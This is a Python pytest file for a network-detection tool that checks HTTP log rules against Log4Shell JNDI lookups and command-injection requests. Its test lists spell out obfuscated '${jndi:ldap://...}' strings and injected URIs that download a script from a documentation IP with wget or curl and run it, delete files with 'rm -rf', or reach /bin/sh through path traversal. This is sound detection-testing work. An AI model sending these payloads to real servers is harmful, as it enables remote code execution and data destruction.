"""The row rules about attacks by HTTP, over logs of other projects and over many names of harmless requests."""

from __future__ import annotations

import gzip
import os
from collections import Counter
from pathlib import Path

import pyarrow as pa
import pytest

from aegis_enrich import registry
from aegis_enrich.decide.load import load_rules
from aegis_enrich.decide.row_rules import evaluate_rows
from aegis_enrich.decide.rules import RuleSet
from aegis_enrich.decode import decode
from aegis_enrich.enrich import Enrichment
from aegis_enrich.tables import TABLES

ROOT = Path(__file__).parents[2]
LAB = ROOT / "tests" / "data" / "lab"
PUBLIC = Path(os.environ.get("AEGIS_PUBLIC_DATA", ROOT.parent / "shared" / "data" / "public"))
PLUGINS = registry.load()
ENRICHMENT = Enrichment([kind({}) for kind in PLUGINS.enrichers.values()])
ALL = load_rules(ROOT / "rules" / "rows", PLUGINS.detectors, ENRICHMENT.schema)
WEB = RuleSet.of([rule for rule in ALL.rows.values() if rule.id.startswith("http_")])


def loud(rows: pa.Table) -> Counter[tuple[str, str]]:
    """How many alerts of each rule and severity the rows of http.log give."""
    hits = evaluate_rows(WEB, "http", "s", rows)
    return Counter((hit.rule.id, str(hit.fold.severity)) for hit in hits)


def http(folder: Path) -> pa.Table:
    parts = []
    for file in sorted(folder.glob("http*.log*")):
        data = file.read_bytes()
        data = gzip.decompress(data) if data[:2] == b"\x1f\x8b" else data
        tables = decode("http", data, offset=0, context="", sensor="s").tables
        parts += [ENRICHMENT.apply("http", tables["http"])] if "http" in tables else []
    return pa.concat_tables(parts) if parts else made([])


def made(given: list[dict[str, object]]) -> pa.Table:
    schema = TABLES["http"].schema
    rows = [{"uid": f"C{n}", "ts": 0, "end_ts": 0, "sensor": "s", "method": "GET"} | r for n, r in enumerate(given)]
    columns = [pa.array([r.get(f.name) for r in rows], f.type) for f in schema]
    return ENRICHMENT.apply("http", pa.table(columns, schema=schema))


@pytest.mark.parametrize(
    ("folder", "expected"),
    [
        ("slips-test14", {("http_jndi", "73"): 1, ("http_dropper", "73"): 2}),
        ("slips-test9", {("http_jndi", "73"): 1, ("http_dropper", "73"): 2}),  # the same requests, mixed with others
        ("slips-test15", {}),
        ("strato-005", {}),
        ("strato-008", {}),
        ("ctu-botnet-4", {}),
        ("rita-proxy", {}),
        ("rita-json-all-fields", {}),
    ],
)
def test_public_logs(folder: str, expected: dict[tuple[str, str], int]) -> None:
    if not (PUBLIC / folder).is_dir():
        pytest.skip(f"no {PUBLIC / folder}; AEGIS_PUBLIC_DATA names the folder")
    assert dict(loud(http(PUBLIC / folder))) == expected


@pytest.mark.parametrize("scenario", sorted(p.name for p in LAB.iterdir() if (p / "tsv" / "http.log").is_file()))
def test_no_recorded_scenario_has_one(scenario: str) -> None:
    assert dict(loud(http(LAB / scenario / "tsv"))) == {}


JNDI = [
    "${jndi:ldap://x/a}",
    "${JNDI:rmi://x/a}",
    "$%7bjndi:dns://x/a%7d",
    "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
    "%2524%257Bjndi%253Aldap://x/a%257D",
    "x${${lower:j}ndi:ldap://x/a}",
    "${${lower:jn}${lower:di}:ldap://x/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap://x/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
]
NO_JNDI = ["${x}", "${user.id}", "${a:b}", "jndi:ldap://x", "{{jndi:x}}", "$(jndi:x)", "${a}${b:c}", "Mozilla/5.0 ($)"]


@pytest.mark.parametrize("text", JNDI)
@pytest.mark.parametrize("column", ["user_agent", "uri", "referrer", "host", "username"])
def test_a_lookup_is_seen_however_it_is_written(text: str, column: str) -> None:
    rows = made([{"orig_h": "203.0.113.9", "resp_h": "10.0.0.5", "uri": "/", column: text}])
    assert dict(loud(rows)) == {("http_jndi", "47"): 1}


@pytest.mark.parametrize("text", NO_JNDI)
def test_other_braces_are_none(text: str) -> None:
    rows = made([{"orig_h": "10.0.0.5", "resp_h": "203.0.113.9", "uri": text, "user_agent": text}])
    assert dict(loud(rows)) == {}


COMMANDS = [
    "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/a;sh+a",
    "/cgi-bin/nas_sharing.cgi?x=;wget${IFS}http://203.0.113.9/a",
    "/x?ip=127.0.0.1%3Bcurl+-O+http://203.0.113.9/a",
    "/x?ip=`busybox wget 203.0.113.9/a`",
    "/x?c=$(curl%20-s%20203.0.113.9)",
    "/GponForm/diag_Form?images/",
    "/board.cgi?cmd=cd+/tmp",
    "/?s=/index/\\think\\app/invokefunction&function=call_user_func_array",
    "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
    "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
]
NO_COMMANDS = [
    "/wget/1.21/manual.html",
    "/dl?file=curl-8.1.tar.gz",
    "/a?b=1;c=2&d=3",
    "/shell",
    "/cd/tmp.html",
    "/cgi-bin/status.sh?x=..",
    "/search?q=cd+collection",
]


@pytest.mark.parametrize("uri", COMMANDS)
def test_commands_are_seen(uri: str) -> None:
    assert dict(loud(made([{"orig_h": "203.0.113.9", "resp_h": "10.0.0.5", "uri": uri}]))) == {
        ("http_command_injection", "47"): 1
    }


@pytest.mark.parametrize("uri", NO_COMMANDS)
def test_what_is_no_command(uri: str) -> None:
    assert dict(loud(made([{"orig_h": "10.0.0.5", "resp_h": "203.0.113.9", "uri": uri}]))) == {}


def test_ipv6_has_directions_too() -> None:
    rows = made([{"orig_h": "2001:db8::9", "resp_h": "fd00:20::5", "uri": "/", "user_agent": "${jndi:ldap://x/a}"}])
    assert dict(loud(rows)) == {("http_jndi", "47"): 1}
